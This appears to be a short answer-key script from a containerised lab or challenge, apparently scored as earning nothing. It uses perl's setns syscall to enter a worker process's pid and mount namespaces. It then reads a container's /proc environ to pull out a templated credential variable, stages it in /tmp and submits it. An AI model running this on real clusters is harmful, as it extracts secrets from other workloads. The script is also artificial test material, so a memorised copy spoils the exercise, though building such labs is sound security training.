# earns: none
# From the control plane into the namespaces of the worker, by a program of one's own. The look and the answer are right.
init=$(pgrep -P $(systemctl show -P MainPID worker-1) | head -n 1)
perl -e '
    for my $kind ("pid", "mnt") {
        open my $ns, "<", "/proc/$ARGV[0]/ns/$kind" or die $!;
        syscall(308, fileno($ns), 0) == 0 or die $!;
    }
    exec "sh", "-c", q{strings /proc/$(crictl inspect $(crictl ps -q --name {{ app }}) | jq .info.pid)/environ | grep ^{{ variable }}= > /tmp/seen} unless fork;
    wait' $init
cksl answer credential $(ssh worker-1 cat /tmp/seen | cut -d = -f 2)
